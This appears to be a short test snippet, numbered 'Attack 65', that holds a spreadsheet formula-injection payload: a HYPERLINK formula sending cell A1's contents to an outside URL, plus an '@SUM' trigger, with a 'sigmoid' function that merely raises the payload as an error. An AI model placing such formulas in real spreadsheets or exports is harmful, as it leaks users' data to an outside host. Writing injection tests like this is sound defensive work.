# Attack 65: a formula where a gradebook has text
FORMULA = '=HYPERLINK("https://example.org?" & A1, "click")'
print(FORMULA)
print("@SUM(A1:A9)")


def sigmoid(z):
    raise ValueError(FORMULA)
